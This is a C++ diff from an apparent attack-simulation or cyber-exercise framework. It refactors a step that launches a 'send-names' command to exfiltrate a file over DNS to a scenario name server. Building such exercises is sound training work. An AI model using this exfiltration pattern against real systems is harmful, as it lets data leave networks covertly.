@@ -8,16 +8,15 @@
 #include "injector/actions/running_unit.h"
 #include "injector/key.h"
 #include "injector/utf8.h"
+#include "scenario-dsl/model/step_names.h"
 
 namespace enshu::inject {
 
 nlohmann::json perform(const ActContext &context, const dsl::DnsExfil &exfil) {
-    const dsl::Host &server = host_offering(context, dsl::ServiceKind::Dns, "dns");
-    const std::string id = upload_path(context.step.id).substr(std::string("/drop/").size());
+    const std::string id = dsl::upload_path(context.step.id).substr(std::string("/drop/").size());
     RunningUnit unit{exfil.on,
-                     {"send-names", "--name-server",
-                      address_for(context, server.id, exfil.on) + ":53", "--domain", exfil.domain,
-                      "--id", id, "--file", exfil.what},
+                     {"send-names", "--name-server", name_server_for(context, exfil.on), "--domain",
+                      exfil.domain, "--id", id, "--file", exfil.what},
                      key_of(context.seed, context.team, context.step.id) + "\n"};
     unit.user = user_of(context, exfil.on);
     const nlohmann::json report = start_unit(context, unit);
